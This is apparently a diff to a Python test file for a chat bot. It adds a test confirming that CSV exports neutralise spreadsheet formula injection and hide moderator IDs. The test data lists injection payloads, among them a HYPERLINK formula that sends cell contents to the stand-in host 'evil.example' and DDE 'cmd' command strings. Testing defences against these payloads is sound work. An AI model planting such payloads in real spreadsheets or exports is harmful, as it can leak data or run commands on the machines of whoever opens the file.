@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import logging
 from collections.abc import AsyncIterator
@@ -11,7 +13,7 @@ import pytest
 
 from bot.clock import system_clock
 from bot.emulator import BotApiEmulator
-from bot.export import snapshot
+from bot.export import snapshot, to_csv
 from tests.harness import Citizen, Harness, RunningBot, make_settings
 
 MOD_A, MOD_B = 900_001, 8_000_000_777
@@ -290,3 +292,37 @@ async def test_review_cards_go_to_the_moderators_group_when_configured(
         assert not emulator.calls_to("leaveChat")
     finally:
         await mod.bot.stop()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1;"Details")',
+    "=cmd|' /C calc'!A0 und mehr Text",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+1 ist eine gute Idee für alle",
+    "-2+3 klingt nach einer Formel",
+    "\t=1+1 mit Tabulator davor",
+    "  =1+1 mit Leerzeichen davor",
+]
+
+
+async def test_export_cells_never_start_a_formula_and_name_no_moderator_id(mod: Harness) -> None:
+    for i, text in enumerate(FORMULAS):
+        await mod.citizen(6100 + i).take_part(["Sport & Events"], impulse=text, source="-x_src")
+    moderator = mod.citizen(MOD_A)
+    await moderator.send("/export")
+    documents = {
+        m.filename.split("-")[0]: m.document for m in moderator.user.messages if m.document
+    }
+    rows = list(csv.DictReader(io.StringIO(documents["impulse"].decode())))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in "=+-@\t\r", value  # a spreadsheet shows text, not a formula
+    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert {row["source"] for row in rows} == {"'-x_src"}
+    # `dialogbot export` writes the same cells.
+    data = await export(mod)
+    assert to_csv(data, "impulses") == documents["impulse"].decode()
+    full = json.loads(documents["dialogbot"])
+    assert full["audit"] and all(e["moderator"].startswith("mod-") for e in full["audit"])
+    assert str(MOD_A) not in documents["dialogbot"].decode()
